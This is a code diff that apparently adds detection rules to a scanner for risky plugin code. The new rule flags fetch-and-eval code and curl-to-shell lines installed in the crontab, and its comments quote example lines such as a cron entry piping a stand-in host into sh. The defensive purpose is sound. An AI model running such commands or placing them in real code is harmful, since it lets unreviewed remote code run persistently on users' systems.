@@ -7,6 +7,8 @@
  * - a downloaded script piped into a shell as the skill's "self-update" or "auto-update": code
  *   nobody reviewed, fetched and run every time (an installer line a user runs once is
  *   `exec.curl-pipe-shell`, info);
+ * - code run straight from the network (`exec(requests.get(URL).text)`, `fetch(URL)...then(eval)`),
+ *   or a fetch piped into a shell written into the crontab;
  * - a path made writable by every user (`chmod 777`).
  * A skill that loads `.env` to run a keyed command, or sends one API key in a header, matches
  * none of these. Each pattern is the general shape of the technique, never a line copied from a
@@ -159,6 +161,38 @@ export const SKILL_CODE_PATTERNS: readonly PhrasePattern[] = [
     groups: [SELF_UPDATE, FETCH, SHELL_PIPES],
     gaps: [400, 200],
     sameLine: false,
+  },
+  // code run straight from the network, no script file a user could read first:
+  // `exec(requests.get(URL).text)`, `eval(await (await fetch(URL)).text())`,
+  // `fetch(URL).then((r) => r.text()).then(eval)`
+  {
+    rule: 'exec.fetch-and-run',
+    lang: '*',
+    groups: [
+      ['exec(', 'eval(', 'new function('],
+      [
+        ...['requests.get(', 'httpx.get(', 'urlopen(', 'urllib.request.urlopen(', 'await fetch('],
+        ...['(await fetch(', 'await (await fetch(', 'fetch(', 'axios.get(', 'http.get('],
+      ],
+    ],
+    gaps: [2],
+  },
+  {
+    rule: 'exec.fetch-and-run',
+    lang: '*',
+    groups: [
+      ['fetch(', 'axios.get('],
+      ['.then(eval)', '.then(exec)', '.then(new function)'],
+    ],
+    gaps: [120],
+  },
+  // a fetch piped into a shell and written into the crontab: the remote code runs again every
+  // few minutes (`(crontab -l; echo "*/5 * * * * curl -s https://h/p | sh") | crontab -`)
+  {
+    rule: 'exec.fetch-and-run',
+    lang: '*',
+    groups: [['crontab', '/etc/cron'], FETCH, SHELL_PIPES],
+    gaps: [80, 200],
   },
   // the mode applied to a target (`chmod 777 /srv/x`, `chmod -R 0777 "$DIR"`) or run as a command
   // (`sudo chmod 777 storage`, `&& chmod o+w logs`); "chmod 777 is dangerous" names it in prose
